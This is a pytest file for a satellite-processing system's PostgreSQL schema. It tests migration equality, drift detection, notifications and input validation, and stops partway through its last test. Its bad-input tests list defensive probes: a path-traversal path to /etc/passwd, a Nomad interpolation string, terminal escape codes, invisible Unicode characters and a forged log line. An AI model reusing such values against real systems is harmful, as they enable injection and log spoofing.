"""sql/schema.sql: equal to the migrations, compared with a live database by `hrwsi db check`, and as a data
engineer meets it: triggers, notifications, and refusals of bad input."""

from __future__ import annotations

import json
import re
import threading
from datetime import UTC, datetime, timedelta

import psycopg
import pytest
from psycopg import sql

from hrwsi import migrations, reports, sql_files
from hrwsi.schema import compare_schema_sql_with_migrations, compare_with_fresh_install, describe, differences

NOW = datetime.now(UTC)


@pytest.fixture
def configured(db):
    db.execute("INSERT INTO hrwsi.flavour VALUES ('f', 4, 16000, 100000)")
    db.execute("INSERT INTO hrwsi.worker (name, flavour) VALUES ('w1', 'f')")
    db.execute("""INSERT INTO hrwsi.processing_routine (name, cpu, ram_mb, storage_mb, expected_duration, command,
                  input_product_type, output_product_type) VALUES ('maja', 2, 4000, 1000, '5 min', ARRAY['true'],
                  'L1C', 'L2A')""")
    db.execute("INSERT INTO hrwsi.processing_condition (name, routine) VALUES ('l1c', 'maja')")
    return db


def insert_input(db, path="/data/a.SAFE", **overrides):
    values = {"processing_condition": "l1c", "input_path": path, "tile": "32TPR", "mission": "S2A",
              "measured_at": NOW - timedelta(days=1), "published_at": NOW - timedelta(hours=20)}
    values.update(overrides)
    columns = ", ".join(values)
    placeholders = ", ".join(f"%({k})s" for k in values)
    db.execute(f"INSERT INTO hrwsi.input ({columns}) VALUES ({placeholders})", values)


def listen(url: str, channel: str):
    conn = psycopg.connect(url, autocommit=True)
    conn.execute(f"LISTEN {channel}")
    return conn


def drain(conn, timeout=0.5):
    return [(n.channel, json.loads(n.payload)) for n in conn.notifies(timeout=timeout, stop_after=None)]


def test_schema_sql_builds_the_same_database_as_the_migrations(server_url):
    """The promise of docs/adr/0008: a fresh install (schema.sql) equals a database migrated from 0001."""
    found = compare_schema_sql_with_migrations(server_url)
    assert found == [], "schema.sql and the migrations differ:\n" + "\n".join(found)


def test_an_installed_database_equals_a_fresh_install(database_url):
    found = compare_with_fresh_install(database_url)
    assert found == [], "\n".join(found)


# Each edit of schema.sql below is a drift the equality test must report: (text in schema.sql,
# its replacement, the object the difference names, a fragment of the explanation).
SCHEMA_SQL_DRIFTS = [
    pytest.param("json_build_object('op', lower(TG_OP), 'count', n)", "json_build_object('op', TG_OP, 'count', n)",
                 "function hrwsi.notify_count() differs", "+        PERFORM pg_notify(TG_ARGV[0], json_build_object"
                 "('op', TG_OP", id="a function body"),
    pytest.param("SECURITY DEFINER SET search_path = pg_catalog, hrwsi AS $$\nDECLARE\n    series record;",
                 "SET search_path = pg_catalog, hrwsi AS $$\nDECLARE\n    series record;",
                 "function hrwsi.create_tasks_for_new_inputs() differs", "SECURITY DEFINER", id="security definer"),
    pytest.param("GRANT INSERT (processing_condition, input_path, tile, mission, measured_at, published_at, scene_id, "
                 "lane)\n    ON hrwsi.input TO hrwsi_data_engineer;\n", "",
                 "privileges on column hrwsi.input.input_path",
                 "only in the migrations: ('hrwsi_data_engineer', 'INSERT', False)", id="a grant"),
    pytest.param("CONSTRAINT flavour_cpu_is_positive", "CONSTRAINT flavour_cpu_must_be_positive",
                 "hrwsi.flavour constraints", "flavour_cpu_must_be_positive", id="a constraint name"),
    pytest.param("    ('running', 'queued'),\n", "", "state machines", "running", id="a state transition"),
    pytest.param("    node_id    text,          -- the Nomad node ID when synced from Nomad\n    updated_at timestamptz "
                 "NOT NULL DEFAULT now()",
                 "    updated_at timestamptz NOT NULL DEFAULT now(),\n    node_id    text",
                 "hrwsi.worker columns", "the same in another order", id="column order"),
]


@pytest.mark.parametrize(("original", "drifted", "key", "explanation"), SCHEMA_SQL_DRIFTS)
def test_the_equality_test_reports_a_drift_of_schema_sql(server_url, monkeypatch, original, drifted, key,
                                                          explanation):
    text = sql_files.schema_sql()
    assert text.count(original) == 1, "the drift must edit schema.sql where it says"
    monkeypatch.setattr(migrations, "schema_sql", lambda: text.replace(original, drifted))
    found = compare_schema_sql_with_migrations(server_url)
    assert [line for line in found if key in line and explanation in line], "\n".join(found)


# Each statement changes one thing a fresh install has; `hrwsi db check` must name it.
DATABASE_DRIFTS = [
    ("ALTER TABLE hrwsi.input ADD COLUMN drifted text", "hrwsi.input columns", "only in this database: ('drifted'"),
    ("DROP INDEX hrwsi.worker_flavour_idx", "hrwsi.worker indexes", "only in a fresh install: ('worker_flavour_idx'"),
    ("DROP INDEX hrwsi.landing_file_unfinished_idx; CREATE INDEX landing_file_unfinished_idx "
     "ON hrwsi.landing_file (source) WHERE state = 'seen'", "hrwsi.landing_file indexes", "WHERE (state = 'seen"),
    ("ALTER TABLE hrwsi.processing_routine ALTER max_attempts SET DEFAULT 4", "hrwsi.processing_routine columns",
     "'4'"),
    ("ALTER TABLE hrwsi.input RENAME CONSTRAINT input_path_is_not_empty TO input_path_check",
     "hrwsi.input constraints", "input_path_check"),
    ("DROP TRIGGER product_notify ON hrwsi.product", "hrwsi.product triggers",
     "only in a fresh install: ('product_notify'"),
    ("ALTER TABLE hrwsi.job DISABLE TRIGGER job_notify_update", "hrwsi.job triggers", "'D'"),
    ("ALTER FUNCTION hrwsi.after_task_changes() RESET enable_nestloop", "function hrwsi.after_task_changes() differs",
     "- SET enable_nestloop"),
    ("ALTER FUNCTION hrwsi.retry_task(bigint) SECURITY INVOKER", "function hrwsi.retry_task(bigint) differs",
     "SECURITY DEFINER"),
    ("REVOKE INSERT ON hrwsi.input FROM hrwsi_data_engineer", "privileges on column hrwsi.input.input_path",
     "only in a fresh install: ('hrwsi_data_engineer', 'INSERT', False)"),
    ("REVOKE UPDATE (last_error) ON hrwsi.harvest_source FROM hrwsi_service",
     "privileges on column hrwsi.harvest_source.last_error", "only in a fresh install: ('hrwsi_service', 'UPDATE'"),
    ("REVOKE EXECUTE ON FUNCTION hrwsi.cancel_task(bigint) FROM hrwsi_service",
     "privileges on function hrwsi.cancel_task(bigint)", "only in a fresh install: ('hrwsi_service', 'EXECUTE'"),
    ("GRANT EXECUTE ON FUNCTION hrwsi.hold_task(bigint) TO PUBLIC", "privileges on function hrwsi.hold_task(bigint)",
     "only in this database: ('PUBLIC', 'EXECUTE'"),
    ("GRANT DELETE ON hrwsi.task_event TO hrwsi_service", "privileges on table hrwsi.task_event",
     "only in this database: ('hrwsi_service', 'DELETE'"),
    ("DELETE FROM hrwsi.task_transition WHERE from_state = 'cancelled'", "state machines",
     "only in a fresh install: ('task_transition', '{\"to_state\": \"pending\", \"from_state\": \"cancelled\"}')"),
    ("COMMENT ON TABLE hrwsi.input IS 'a comment'", "comments", "only in this database: ('table hrwsi.input'"),
    ("CREATE VIEW hrwsi.extra AS SELECT 1 AS one", "relations in schema hrwsi", "only in this database: ('extra'"),
]


def test_the_comparison_with_a_fresh_install_names_each_drift(database_url):
    """All drifts in one database (they touch different objects), compared once."""
    with psycopg.connect(database_url, autocommit=True) as conn:
        for statement, _, _ in DATABASE_DRIFTS:
            conn.execute(statement)
    found = compare_with_fresh_install(database_url)
    missed = [(statement, key, explanation) for statement, key, explanation in DATABASE_DRIFTS
              if not [line for line in found if line.startswith(key) and explanation in line]]
    assert missed == [], "\n".join(found)


def test_a_function_difference_is_shown_as_a_diff():
    left = {"function f()": "BEGIN\n    RETURN 1;\nEND"}
    right = {"function f()": "BEGIN\n    RETURN 2;\nEND"}
    assert differences(left, right) == [
        "function f() differs:\n  --- a fresh install\n  +++ this database\n  @@ -1,3 +1,3 @@\n   BEGIN\n"
        "  -    RETURN 2;\n  +    RETURN 1;\n   END"]


def test_differences_name_missing_keys_and_items():
    assert differences({"a": [1]}, {"a": [1]}) == []
    assert differences({"f": "x"}, {"g": "x"}) == ["f: only in this database, not in a fresh install",
                                                  "g: missing in this database"]
    assert differences({}, {"t triggers": [("gone",)]}) == ["t triggers:\n  only in a fresh install: ('gone',)"]
    assert differences({"t columns": [("x",), ("y",)]}, {"t columns": [("x",), ("z",)]}) == [
        "t columns:\n  only in this database: ('y',)\n  only in a fresh install: ('z',)"]


def test_describe_reads_triggers(database_url):
    names = {trigger[0] for trigger in describe(database_url)["hrwsi.input triggers"]}
    assert names == {"input_notify", "input_create_tasks", "input_refuse_future_dates", "input_refuses_truncate",
                     "input_named_by_tasks_removed", "input_named_by_tasks_renumbered",
                     "input_names_a_condition_that_exists", "input_what_a_task_was_made_from_stays"}


def test_every_function_that_turns_a_planner_method_off_turns_jit_off_too(db):
    """Up to PostgreSQL 17 a plan using a method turned off costs ten billion more, which passes
    jit_above_cost: Debian 12's PostgreSQL 15 compiled hrwsi's claim at every call (a lone input's reaction
    82 ms instead of 2.6 ms). A function that turns a method off, by a SET clause or by set_config in its
    body, turns JIT off for the same statements (migration 0088)."""
    rows = db.execute("""SELECT p.oid::regprocedure::text, coalesce(array_to_string(p.proconfig, ','), ''), p.prosrc
                         FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
                         WHERE n.nspname = 'hrwsi'""").fetchall()
    method_off = re.compile(r"enable_[a-z]+=off")
    set_off = re.compile(r"set_config\('enable_[a-z]+', 'off'")
    turning_off = [(name, config, body) for name, config, body in rows
                   if method_off.search(config) or set_off.search(body)]
    assert len(turning_off) >= 12  # (the rule has the claim, the outcome writer and the triggers to check)
    missing = [name for name, config, body in turning_off
               if "jit=off" not in config.split(",") and "set_config('jit', 'off'" not in body]
    assert not missing, f"turn a planner method off and leave JIT on: {missing}"


def test_one_small_notification_for_a_large_insert(configured, database_url):
    listener = listen(database_url, "hrwsi_input")
    configured.execute("""INSERT INTO hrwsi.input (processing_condition, input_path)
                          SELECT 'l1c', '/bulk/' || g FROM generate_series(1, 100000) g""")
    notes = drain(listener)
    listener.close()
    assert notes == [("hrwsi_input", {"op": "insert", "count": 100000})]


def test_task_and_job_notifications_carry_counts_per_state(configured, database_url):
    listener = listen(database_url, "hrwsi_task")
    listener.execute("LISTEN hrwsi_job")
    insert_input(configured)  # its task is created with it
    configured.execute("UPDATE hrwsi.processing_task SET state = 'planned', worker = 'w1', planned_start = now()")
    configured.execute("UPDATE hrwsi.processing_task SET state_reason = 'no state change'")  # no notification
    configured.execute("""UPDATE hrwsi.processing_task SET state = 'pending', worker = NULL, planned_start = NULL""")
    notes = drain(listener)
    listener.close()
    assert notes == [
        ("hrwsi_task", {"op": "insert", "counts": {"pending": 1}}),
        ("hrwsi_task", {"op": "update", "counts": {"planned": 1}}),
        ("hrwsi_task", {"op": "update", "counts": {"pending": 1}}),
    ]


def test_work_under_way_is_told_on_its_tables_progress_channel_which_services_do_not_listen_to(configured, database_url):
    """Migration 0043: a task dispatched, queued or running, a job submitted, queued or running, gives no
    service work; it is told on hrwsi_task_progress and hrwsi_job_progress (the dashboard's), and
    one statement's other changes on the table's channel, as before."""
    listener = listen(database_url, "hrwsi_task")
    for channel in ("hrwsi_task_progress", "hrwsi_job", "hrwsi_job_progress"):
        listener.execute(f"LISTEN {channel}")
    insert_input(configured, "/data/a.SAFE")
    insert_input(configured, "/data/b.SAFE")
    configured.execute("UPDATE hrwsi.processing_task SET state = 'planned', worker = 'w1', planned_start = now()")
    first = configured.execute("SELECT min(id) FROM hrwsi.processing_task").fetchone()[0]
    configured.execute("""UPDATE hrwsi.processing_task
                          SET state = CASE WHEN id = %(first)s THEN 'dispatched' ELSE 'pending' END,
                              worker = CASE WHEN id = %(first)s THEN worker END,
                              planned_start = CASE WHEN id = %(first)s THEN planned_start END""", {"first": first})
    configured.execute("""INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id)
                          VALUES (%s, 1, 'local', 'hrwsi-maja-1-1')""", (first,))
    configured.execute("UPDATE hrwsi.job SET state = 'running'")
    configured.execute("UPDATE hrwsi.processing_task SET state = 'running' WHERE id = %s", (first,))
    configured.execute("UPDATE hrwsi.job SET state = 'processed', exit_code = 0")
    notes = drain(listener)
    listener.close()
    assert notes == [
        ("hrwsi_task", {"op": "insert", "counts": {"pending": 1}}),
        ("hrwsi_task", {"op": "insert", "counts": {"pending": 1}}),
        ("hrwsi_task", {"op": "update", "counts": {"planned": 2}}),
        ("hrwsi_task", {"op": "update", "counts": {"pending": 1}}),  # one statement, told on both
        ("hrwsi_task_progress", {"op": "update", "counts": {"dispatched": 1}}),
        ("hrwsi_job_progress", {"op": "insert", "counts": {"submitted": 1}}),
        ("hrwsi_job_progress", {"op": "update", "counts": {"running": 1}}),
        ("hrwsi_task_progress", {"op": "update", "counts": {"running": 1}}),
        ("hrwsi_job", {"op": "update", "counts": {"processed": 1}}),
    ]


def test_product_insert_notifies_once(configured, database_url):
    listener = listen(database_url, "hrwsi_product")
    configured.execute("INSERT INTO hrwsi.product (path, product_type) VALUES ('/p/1', 'L2A'), ('/p/2', 'L2A')")
    notes = drain(listener)
    listener.close()
    assert notes == [("hrwsi_product", {"op": "insert", "count": 2})]


def test_notification_is_sent_only_at_commit(configured, database_url):
    listener = listen(database_url, "hrwsi_input")
    with psycopg.connect(database_url) as conn:
        insert_input(conn, "/data/rolled-back")
        conn.rollback()
    assert drain(listener, 0.3) == []
    listener.close()


def test_status_history_is_written_and_append_only(configured):
    insert_input(configured)
    configured.execute("UPDATE hrwsi.processing_task SET state = 'planned', worker = 'w1', planned_start = now()")
    states = [r[0] for r in configured.execute("SELECT state FROM hrwsi.task_event ORDER BY id")]
    assert states == ["pending", "planned"]
    with pytest.raises(psycopg.errors.InsufficientPrivilege, match="append-only"):
        configured.execute("DELETE FROM hrwsi.task_event")


@pytest.mark.parametrize(
    ("overrides", "message"),
    [
        ({"processing_condition": "nope"}, "input_processing_condition_must_exist"),
        ({"input_path": ""}, "input_path_is_not_empty"),
        ({"input_path": "   "}, "input_path_is_not_empty"),
        ({"input_path": None}, 'null value in column "input_path"'),
        ({"tile": "T32TPR"}, "input_tile_is_an_mgrs_code_like_32tpr"),
        ({"tile": "32tpr"}, "input_tile_is_an_mgrs_code_like_32tpr"),
        ({"measured_at": NOW - timedelta(hours=1), "published_at": NOW - timedelta(hours=2)},
         "input_measured_at_is_not_after_published_at"),
        ({"published_at": NOW + timedelta(days=3)}, "is published in the future"),
        ({"measured_at": NOW + timedelta(days=2), "published_at": None}, "is measured in the future"),
        ({"measured_at": datetime(1900, 1, 1, tzinfo=UTC)}, "input_measured_at_is_after_1950"),
        ({"input_path": "/x" * 1001}, "input_path_is_at_most_2000_bytes"),
        ({"input_path": "/é" * 700}, "input_path_is_at_most_2000_bytes"),  # 2,100 bytes, 1,400 characters
        ({"input_path": " /data/a.SAFE"}, "input_path_has_no_surrounding_white_space"),
        ({"input_path": "/data/a.SAFE\n"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/\x1b[31ma.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        # (found by exploratory testing: shown as a line break, or as nothing, in logs and the dashboard,
        # and two paths that look the same differed)
        ({"input_path": "/data/a\u2028b.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/a\u2029b.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/a\u200b.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/\u202eFAS.a"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/\ufeffa.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/a\u00ad.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/a\U000e0041.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "/data/a\x85.SAFE"}, "input_path_has_no_control_or_invisible_characters"),
        ({"input_path": "data/a.SAFE"}, "input_path_is_absolute_or_a_multi_input_group"),
        ({"input_path": "multi_input/x/32TPR/2026-01-01"}, "input_path_is_absolute_or_a_multi_input_group"),
        ({"input_path": "/data/../etc/passwd"}, "input_path_has_no_dot_dot_segment"),
        # (found by exploratory testing: Nomad reads `${...}` as its own; the routine was held for it)
        ({"input_path": "/eodata/${attr.unique.hostname}/S2A.SAFE"}, "input_path_has_no_dollar_brace"),
        ({"mission": "B" * 101}, "input_mission_is_at_most_100_bytes"),  # (50 MB was accepted)
        ({"scene_id": "A" * 501}, "input_scene_id_is_at_most_500_bytes"),  # ("index row requires 11480 bytes")
        # (found by exploratory testing: a mission's line break began a line of `task show`'s own, and a scene_id
        # with an invisible character was a scene of its own; migration 0115)
        ({"mission": "S2A\nharvest source needs attention: fake"}, "input_mission_has_no_control_or_invisible_characters"),
        ({"mission": "S2A\x1b[2J"}, "input_mission_has_no_control_or_invisible_characters"),
        ({"scene_id": "S2A_MSIL1C_X\u200b"}, "input_scene_id_has_no_control_or_invisible_characters"),
        ({"scene_id": "S2A_MSIL1C_X\u202e"}, "input_scene_id_has_no_control_or_invisible_characters"),
        ({"published_at": datetime(1, 1, 1, tzinfo=UTC), "measured_at": None}, "input_published_at_is_after_1950"),
        ({"published_at": "-infinity", "measured_at": None}, "input_published_at_is_after_1950"),
        ({"measured_at": "-infinity"}, "input_measured_at_is_after_1950"),
    ],
)
def test_bad_inputs_are_refused_with_a_clear_message(configured, overrides, message):
    with pytest.raises((psycopg.errors.IntegrityError, psycopg.errors.CheckViolation), match=message):
        insert_input(configured, **overrides)
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 0


@pytest.mark.parametrize("column", ["published_at", "measured_at"])
def test_an_input_dated_in_the_future_is_refused_with_its_time_in_utc_whatever_the_sessions_zone(configured, column):
    """README (Clocks): the database's sentences say times in UTC with a Z. This refusal, which asks for a time
    zone, said the session's zone in PostgreSQL's format ("2026-12-08 11:25:49.427831+01"; migration 0103)."""
    configured.execute("SET TIME ZONE 'Europe/Paris'")
    future = datetime(2099, 6, 1, 10, 0, 0, 250000, tzinfo=UTC)
    overrides = {"published_at": future} if column == "published_at" else {"measured_at": future, "published_at": None}
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        insert_input(configured, **overrides)
    assert refused.value.diag.message_primary.endswith(f"in the future ({column} 2099-06-01 10:00:00Z)")



def test_an_input_published_at_infinity_is_refused_saying_infinity_not_null(configured):
    """'infinity' passed the 1950 rule and was refused as a time in the future, saying "(published_at <NULL>)":
    hrwsi.utc_text gave no text for it (found by exploratory testing; migration 0115)."""
    with pytest.raises(psycopg.errors.CheckViolation) as refused:
        insert_input(configured, published_at="infinity")
    assert refused.value.diag.message_primary.endswith("in the future (published_at infinity)")
    assert configured.execute("SELECT hrwsi.utc_text('-infinity'), hrwsi.utc_text('2026-01-02T03:04:05.9Z')"
                              ).fetchone() == ("-infinity", "2026-01-02 03:04:05Z")

def test_a_path_of_visible_characters_of_any_script_is_accepted(configured):
    """The invisible characters refused are Unicode's format characters and separators, not letters."""
    for path in ("/data/Été/S2A.SAFE", "/data/中文/a b.SAFE", "/data/😀.SAFE", "/data/한글/a.SAFE"):
        insert_input(configured, path)
    assert configured.execute("SELECT count(*) FROM hrwsi.input").fetchone()[0] == 4


@pytest.mark.parametrize("character", ["\u00a0", "\u115f", "\u1160", "\u3164", "\uffa0", "\u2007", "\u202f", "\u3000"])
def test_a_path_with_a_character_that_looks_like_a_space_or_nothing_is_refused(configured, character):
    """Found by exploratory testing: a no-break space looks like a space and a Hangul filler like nothing, and
    two paths that looked the same differed. Refused in inputs and in products (the next step's inputs)."""
    with pytest.raises(psycopg.errors.CheckViolation, match="input_path_has_no_control_or_invisible_characters"):
        insert_input(configured, f"/data/a{character}b.SAFE")
    insert_input(configured)
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    with pytest.raises(psycopg.errors.CheckViolation, match="product_path_is_absolute_without_control_characters"):
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type) VALUES (%s, %s, 'L2A')",
                           (task, f"/out/a{character}.tif"))


@pytest.mark.parametrize("path", ["/out/a\u2028b.tif", "/out/a\u200b.tif"])
def test_a_product_path_with_an_invisible_character_is_refused(configured, path):
    """A product's path becomes the next step's input path: refused there, the chaining would fail."""
    insert_input(configured)
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    with pytest.raises(psycopg.errors.CheckViolation, match="product_path_is_absolute_without_control_characters"):
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type) VALUES (%s, %s, 'L2A')",
                           (task, path))


def test_the_harvester_refuses_the_characters_the_database_refuses(configured):
    """hrwsi.harvest.input_checks sets aside a landing file or catalogue product whose path the database
    would refuse: its list of invisible characters is the constraint's, character for character."""
    from hrwsi.harvest.input_checks import REFUSED_CHARACTER
    refused = configured.execute("""SELECT array_agg(c ORDER BY c) FROM generate_series(1, 1114111) c
                                    WHERE (c < 55296 OR c > 57343) AND chr(c) ~ (
                                    SELECT substring(pg_get_constraintdef(oid) FROM '!~ ''(.*)''::text')
                                    FROM pg_constraint
                                    WHERE conname = 'input_path_has_no_control_or_invisible_characters')""").fetchone()[0]
    ours = [c for c in range(1, 0x110000) if not 0xD800 <= c <= 0xDFFF and REFUSED_CHARACTER.match(chr(c))]
    assert refused == ours


def test_a_product_s_size_is_not_negative(configured):
    insert_input(configured)
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    with pytest.raises(psycopg.errors.CheckViolation, match="product_size_bytes_is_not_negative"):
        configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, size_bytes) "
                           "VALUES (%s, '/out/a.tif', 'L2A', -5)", (task,))
    configured.execute("INSERT INTO hrwsi.product (task_id, path, product_type, size_bytes) "
                       "VALUES (%s, '/out/a.tif', 'L2A', 0)", (task,))


@pytest.mark.parametrize("change", [
    "tile = '31TCH'", "measured_at = measured_at - interval '1 hour'", "input_path = '/data/b.SAFE'",
    "published_at = published_at - interval '1 hour'", "lane = 'archive'"])
def test_what_a_task_was_made_from_cannot_be_rewritten_on_its_input(configured, change):
    """The schema's owner rewrote an input's tile, time or path after its task existed: the task stayed in
    its old time series and place, and its products named the old path (found by exploratory testing)."""
    insert_input(configured)
    task = configured.execute("SELECT id FROM hrwsi.processing_task").fetchone()[0]
    with pytest.raises(psycopg.errors.RestrictViolation) as refused:
        configured.execute(f"UPDATE hrwsi.input SET {change}")
    column = change.split(" ")[0]
    assert str(refused.value.diag.message_primary) == (
        f"input 1 (/data/a.SAFE) cannot change its {column}: task {task} (routine maja, pending) was made from it")
    assert refused.value.diag.constraint_name == "input_is_not_changed_once_a_task_is_made_from_it"
    assert "SELECT hrwsi.correct_input(1, tile => ..." in refused.value.diag.message_hint
    assert f"`hrwsi cancel {task}`" in refused.value.diag.message_hint
    assert configured.execute("SELECT tile, input_path FROM hrwsi.input").fetchone() == ("32TPR", "/data/a.SAFE")


def test_an_input_s_description_may_be_corrected_after_its_task_exists(configured):
    insert_input(configured)
    configured.execute("UPDATE hrwsi.input SET mission = 'S2B', scene_id = 'a', tile = tile")  # (tile unchanged)
    assert configured.execute("SELECT mission, scene_id FROM hrwsi.input").fetchone() == ("S2B", "a")


def test_scene_id_of_is_the_harvester_s_scene_identifier(configured):
    """A data engineer's INSERT gives scene_id with hrwsi.scene_id_of(path), the harvester's rule: the same
    scene under another path is then refused for the condition (or skipped, ON CONFLICT DO NOTHING)."""
    from hrwsi.harvest.product_names import scene_id_of
    names = ["/eodata/S2A_MSIL1C_20261120T103421_N0511_R108_T32TLR_20261120T123456.SAFE",
             "/landing/S2A_MSIL1C_20261120T103421_N0511_R108_T32TLR_20261120T123456.SAFE.zip",
             "/x/FSC_20240105T103421_S2A_T32TPR_V100_1.TIF", "/x/a.tar.gz", "/x/dir.SAFE/", "/x/noext", "/x/.zip"]
    for name in names:
        ours = configured.execute("SELECT hrwsi.scene_id_of(%s)", (name,)).fetchone()[0]
        assert ours == (scene_id_of(name) or None), name
    insert_input(configured, names[1], scene_id=scene_id_of(names[1]))
    with pytest.raises(psycopg.errors.UniqueViolation, match="input_scene_is_registered_once_per_condition"):
        configured.execute("INSERT INTO hrwsi.input (processing_condition, input_path, scene_id) "
                           "VALUES ('l1c', %(p)s, hrwsi.scene_id_of(%(p)s))", {"p": names[0]})
    configured.execute("INSERT INTO hrwsi.input (processing_condition, input_path, scene_id) "
                       "VALUES ('l1c', %(p)s, hrwsi.scene_id_of(%(p)s)) ON CONFLICT DO NOTHING", {"p": names[0]})
    assert configured.execute("SELECT count(*) FROM hrwsi.processing_task").fetchone()[0] == 1


def test_an_input_is_corrected_under_the_same_path_and_its_old_task_cancelled(configured):
    """Found by exploratory testing: README told data engineers to insert the corrected input and cancel the old
    task, but an input that kept its path was refused until retention removed the old one. hrwsi.correct_input
    cancels the old task, keeps the old input (superseded) with its history, and inserts the corrected one."""
    insert_input(configured, scene_id="a")
    [(old_input, old_task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    new_input = configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (old_input,)).fetchone()[0]
    rows = configured.execute("""SELECT i.id, i.input_path, i.tile, i.scene_id, i.superseded_by, t.state, t.state_reason
                                 FROM hrwsi.input i JOIN hrwsi.processing_task t ON t.input_id = i.id
                                 ORDER BY i.id""").fetchall()
    assert rows == [(old_input, "/data/a.SAFE", "32TPR", "a", new_input, "cancelled",
                     f"its input {old_input} was corrected: input {new_input} replaces it"),
                    (new_input, "/data/a.SAFE", "31TCH", "a", None, "pending", None)]
    with pytest.raises(psycopg.errors.UniqueViolation, match="input_is_unique_per_condition_and_path"):
        insert_input(configured)  # (the path is the corrected input's now)
    with pytest.raises(psycopg.errors.CheckViolation, match=f"input {new_input} replaces it") as again:
        configured.execute("SELECT hrwsi.correct_input(%s, tile => '32TLR')", (old_input,))
    assert f"hrwsi.correct_input({new_input}, ...)" in again.value.diag.message_hint
    with pytest.raises(psycopg.errors.CheckViolation, match=f"which input {new_input} corrects: it is not retried"):
        configured.execute("SELECT hrwsi.retry_task(%s)", (old_task,))
    with pytest.raises(psycopg.errors.CheckViolation, match="nothing to correct"):
        configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (new_input,))
    newest = configured.execute("SELECT hrwsi.correct_input(%s, input_path => '/data/b.SAFE')", (new_input,)).fetchone()[0]
    assert configured.execute("SELECT input_path, scene_id FROM hrwsi.input WHERE id = %s", (newest,)).fetchone() == \
        ("/data/b.SAFE", "b"), "the scene id the old path gave follows the new path"


def test_an_input_whose_attempt_runs_is_not_corrected_and_says_what_to_do(configured):
    """No attempt runs twice: while one made from the old input runs (or its cancelled job has not stopped yet),
    the corrected input's would run beside it."""
    insert_input(configured)
    [(old_input, task)] = configured.execute("SELECT input_id, id FROM hrwsi.processing_task").fetchall()
    configured.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now(), "
                       "attempts = 1 WHERE id = %s", (task,))
    configured.execute("INSERT INTO hrwsi.job (task_id, attempt, backend, backend_job_id, state) "
                       "VALUES (%s, 1, 'local', 'hrwsi-maja-1-1', 'running')", (task,))
    configured.execute("SELECT hrwsi.cancel_task(%s)", (task,))
    with pytest.raises(psycopg.errors.ObjectInUse) as refused:
        configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (old_input,))
    assert str(refused.value.diag.message_primary) == (
        f"input {old_input} cannot be corrected now: task {task} (routine maja) made from it is cancelled, "
        "its job hrwsi-maja-1-1 still running")
    assert "wait until its job has stopped; then correct the input again" in refused.value.diag.message_hint.replace(
        "and wait", "wait").replace(f"cancel it (`hrwsi cancel {task}`) ", "")
    assert configured.execute("SELECT count(*) FROM hrwsi.input WHERE superseded_by IS NULL").fetchone()[0] == 1
    configured.execute("UPDATE hrwsi.job SET state = 'cancelled', finished_at = now()")
    configured.execute("SELECT hrwsi.correct_input(%s, tile => '31TCH')", (old_input,))


@pytest.mark.parametrize("moved", [False, True])
def test_the_tasks_of_a_time_series_after_a_corrected_input_wait_for_the_corrected_one_or_the_one_before(
        configured, moved):
    """The correction cancels the old task; the next scene of its series, blocked by that, waits for the corrected
    input's task when it takes its place, else (moved to another tile) for the task before it."""
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true")
    for hours in (3, 2, 1):
        insert_input(configured, f"/data/{hours}.SAFE", measured_at=NOW - timedelta(hours=hours),
                     published_at=NOW - timedelta(minutes=30))
    tasks = dict(configured.execute("SELECT i.input_path, t.id FROM hrwsi.processing_task t "
                                    "JOIN hrwsi.input i ON i.id = t.input_id").fetchall())
    middle = configured.execute("SELECT input_id FROM hrwsi.processing_task WHERE id = %s", (tasks["/data/2.SAFE"],))
    correction = "tile => '31TCH'" if moved else "measured_at => %s"
    args = () if moved else (NOW - timedelta(hours=2, minutes=5),)
    new_input = configured.execute(f"SELECT hrwsi.correct_input({middle.fetchone()[0]}, {correction})", args).fetchone()[0]
    new_task = configured.execute("SELECT id FROM hrwsi.processing_task WHERE input_id = %s", (new_input,)).fetchone()[0]
    last = configured.execute("SELECT depends_on, state FROM hrwsi.processing_task WHERE id = %s",
                              (tasks["/data/1.SAFE"],)).fetchone()
    assert last == ((tasks["/data/3.SAFE"] if moved else new_task), "pending")
    assert configured.execute("SELECT count(*) FROM hrwsi.alert WHERE kind = 'task_blocked'").fetchone()[0] == 0, \
        "no alert says it is blocked"


def _processed(db, *tasks):
    for task in tasks:
        db.execute("UPDATE hrwsi.processing_task SET state = 'dispatched', worker = 'w1', planned_start = now() "
                   "WHERE id = %s", (task,))
        db.execute("UPDATE hrwsi.processing_task SET state = 'processed' WHERE id = %s", (task,))


def test_a_corrected_scenes_task_follows_the_scene_before_it_not_its_own_superseded_task(configured):
    """Found by review: correct_input cancelled only open tasks, so a processed old task stayed in its time
    series at the same place with a lower id, and the corrected scene's task depended on it: its previous
    products were the wrong version of the same scene. The old input's tasks leave their series."""
    configured.execute("UPDATE hrwsi.processing_routine SET sequential_per_tile = true")
    for hours in (3, 2):
        insert_input(configured, f"/data/{hours}.SAFE", measured_at=NOW - timedelta(hours=hours), published_at=NOW)
